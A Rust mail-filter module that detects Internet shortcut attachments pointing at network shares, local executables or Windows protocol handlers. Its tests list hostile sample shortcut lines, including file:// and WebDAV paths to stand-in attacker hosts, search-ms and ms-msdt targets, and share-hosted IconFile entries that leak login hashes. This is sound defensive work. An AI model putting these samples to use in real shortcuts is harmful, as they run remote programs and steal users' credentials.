//! Internet shortcuts (`.url`, `.website`) that open something other than a web page.
//!
//! A shortcut is a small INI file that Windows opens with a double click. Pointed at a
//! network share (`URL=file://host/share/invoice.exe`, `\\host@SSL\DavWWWRoot\x.exe`)
//! it runs a program the mail never carried, past every name, content and clamd check;
//! pointed at a Windows protocol handler (`search-ms:`, `ms-msdt:`) it opens the hole
//! that handler has. An `IconFile` on a share leaks the reader's Windows login hash the
//! moment Explorer shows the file, before anything is opened. Shortcuts that mail
//! clients made to share a web page (the training corpus has one, a 2002 ham) point at
//! `http:` and stay unflagged.

use super::locations::{self, is_unc, scheme_of};

/// Bytes of a shortcut read. The ones Windows writes are a few hundred bytes; a bigger one
/// is padded to push its target past a reader, and is flagged whatever it says. Below the
/// bytes an archive entry's head holds, so a padded entry is flagged too.
const MAX_READ: usize = 32 * 1024;

/// Declared types shortcuts are sent as.
const SHORTCUT_TYPES: [&str; 4] = [
    "application/internet-shortcut",
    "application/x-url",
    "application/x-mswinurl",
    "wwwserver/redirection",
];

/// Schemes of a web page, a mail or a call: what a shortcut to share a link holds.
const WEB_SCHEMES: [&str; 8] = [
    "http", "https", "ftp", "mailto", "news", "nntp", "snews", "tel",
];

/// Whether the attachment is an Internet shortcut: by the extension of a name (as the name
/// checks read it), the declared type, or, for a file whose names give no extension (which
/// Windows then opens by what it declares or holds), content opening with the
/// `[InternetShortcut]` section or its class id. A `.txt` holding one opens in Notepad.
pub(super) fn is_shortcut(exts: &[Option<String>], content_type: &str, data: &[u8]) -> bool {
    let named = exts
        .iter()
        .any(|e| matches!(e.as_deref(), Some("url" | "website")));
    if named || SHORTCUT_TYPES.contains(&content_type) {
        return true;
    }
    if exts.iter().any(Option::is_some) {
        return false;
    }
    let head = text_of(&data[..data.len().min(4096)]).to_ascii_lowercase();
    let start = head.trim_start_matches(['\u{feff}', ' ', '\t', '\r', '\n']);
    start.starts_with('[') && (head.contains("[internetshortcut]") || head.contains("[{000214a0-"))
}

/// Whether a shortcut opens a local or network file or a non-web handler (`URL=`,
/// `BASEURL=`), or shows an icon from a network share (`IconFile=`). Every section is
/// read: Windows reads `[InternetShortcut]`, and a harmless shortcut holds no such
/// target anywhere.
pub(super) fn opens_a_file(data: &[u8]) -> bool {
    if data.len() > MAX_READ {
        return true;
    }
    // Lines end at CR or LF alone too, as Windows' and Wine's INI readers end them.
    text_of(data).split(['\r', '\n']).any(|line| {
        let Some((key, value)) = line.split_once('=') else {
            return false;
        };
        let value = unquoted(value.trim());
        match key.trim().to_ascii_lowercase().as_str() {
            "url" | "baseurl" => leaves_the_web(value),
            "iconfile" => on_a_share(value),
            _ => false,
        }
    })
}

/// The file's text: as its byte-order mark says (Windows reads such INI files as
/// Unicode), else its bytes as UTF-8 with stray bytes replaced.
fn text_of(data: &[u8]) -> String {
    crate::mail::charsets::decode_by_bom(data)
        .unwrap_or_else(|| String::from_utf8_lossy(data))
        .into_owned()
}

/// A value without the quotes around it, as Windows' INI reader gives it.
fn unquoted(value: &str) -> &str {
    ['"', '\'']
        .iter()
        .find_map(|q| value.strip_prefix(*q)?.strip_suffix(*q))
        .unwrap_or(value)
}

/// Whether a shortcut's target is not a web page, a mail or a call: a UNC path (`\\host`,
/// also written `//host`), a drive path (`C:\`), a path with no scheme, or any other scheme
/// (`file:`, `search-ms:`, `ms-msdt:`, `javascript:`). A bare host (`www.example.com`),
/// which Windows completes to `http:`, is a web page.
fn leaves_the_web(target: &str) -> bool {
    let target = target.trim_start_matches(|c: char| c.is_whitespace() || c.is_control());
    if target.is_empty() {
        return false;
    }
    if is_unc(target) {
        return true;
    }
    match scheme_of(target) {
        Some(scheme) => !WEB_SCHEMES.contains(&scheme.as_str()),
        None => target.contains('\\'),
    }
}

/// Whether a path is on another machine (see [`locations::share`]).
fn on_a_share(path: &str) -> bool {
    locations::share(path).is_some()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shortcut(body: &str) -> Vec<u8> {
        format!("[InternetShortcut]\r\n{body}\r\n").into_bytes()
    }

    #[test]
    fn shortcuts_are_known_by_name_type_or_content() {
        let none: [Option<String>; 0] = [];
        assert!(is_shortcut(&[Some("url".to_string())], "", b""));
        assert!(is_shortcut(&[Some("website".to_string())], "", b""));
        assert!(is_shortcut(&none, "application/x-mswinurl", b""));
        assert!(is_shortcut(&none, "", b"\r\n[InternetShortcut]\r\nURL=x"));
        assert!(is_shortcut(&[None], "", b"[InternetShortcut]\r\nURL=x"));
        assert!(!is_shortcut(
            &[Some("txt".to_string())],
            "",
            b"[InternetShortcut]\r\nURL=x"
        ));
        assert!(is_shortcut(
            &none,
            "",
            b"[DEFAULT]\nBASEURL=x\n[InternetShortcut]"
        ));
        assert!(!is_shortcut(
            &[Some("txt".to_string())],
            "text/plain",
            b"URL=x"
        ));
        assert!(!is_shortcut(&none, "", b"[section]\nkey=value"));
    }

    /// Links a mail client shares are web pages; a share, a file, a drive path or a
    /// Windows handler is not.
    #[test]
    fn targets_off_the_web_are_flagged() {
        for harmless in [
            "URL=http://www.english.upenn.edu/~afilreis/50s/schleslib.html",
            "URL=https://example.test/report?id=7",
            "url = \"HTTPS://example.test/\"",
            "URL=ftp://ftp.example.test/pub/",
            "URL=mailto:someone@example.test",
            "URL=www.example.test",
            "IconFile=http://example.test/favicon.ico",
            "IconFile=C:\\Windows\\System32\\shell32.dll",
            "IconFile=file:///C:/Windows/System32/shell32.dll",
            "Modified=E0824ED43364C201DE",
        ] {
            assert!(!opens_a_file(&shortcut(harmless)), "{harmless}");
        }
        for hostile in [
            "URL=file://203.0.113.7/share/invoice.exe",
            "URL=file:///C:/Windows/System32/calc.exe",
            "URL=\\\\evil.test@SSL\\DavWWWRoot\\invoice.exe",
            "URL=//evil.test/share/x.exe",
            "URL=C:\\Users\\Public\\x.exe",
            "URL=search-ms:query=invoice&crumb=location:\\\\evil.test@80\\x",
            "URL=ms-msdt:/id PCWDiagnostic",
            "URL = 'javascript:alert(1)'",
            "  URL=\t FILE://evil.test/x.hta",
            "BASEURL=file://evil.test/x",
            "IconFile=\\\\203.0.113.7\\icons\\a.ico",
            "IconFile=file://evil.test/icons/a.ico",
            "IconFile=file:////evil.test/s/a.ico",
        ] {
            assert!(opens_a_file(&shortcut(hostile)), "{hostile}");
        }
    }

    /// Review: lines ended by CR alone, and a shortcut padded past what is read.
    #[test]
    fn cr_lines_and_padding_hide_no_target() {
        assert!(opens_a_file(
            b"[InternetShortcut]\rURL=file://evil.test/x.exe\r"
        ));
        let mut padded = b"[InternetShortcut]\r\n".to_vec();
        padded.extend(std::iter::repeat_n(b';', MAX_READ));
        padded.extend_from_slice(b"\r\nURL=file://evil.test/x.exe\r\n");
        assert!(opens_a_file(&padded));
        assert!(!opens_a_file(
            b"[InternetShortcut]\rURL=https://example.test/\r"
        ));
    }

    /// Windows reads a shortcut saved as UTF-16 as well as one in ANSI.
    #[test]
    fn utf16_shortcuts_are_read() {
        let text = "[InternetShortcut]\r\nURL=file://evil.test/x.exe\r\n";
        let mut le = vec![0xFF, 0xFE];
        le.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
        let mut be = vec![0xFE, 0xFF];
        be.extend(text.encode_utf16().flat_map(u16::to_be_bytes));
        for data in [le, be] {
            assert!(is_shortcut(&[], "", &data));
            assert!(opens_a_file(&data));
        }
    }
}
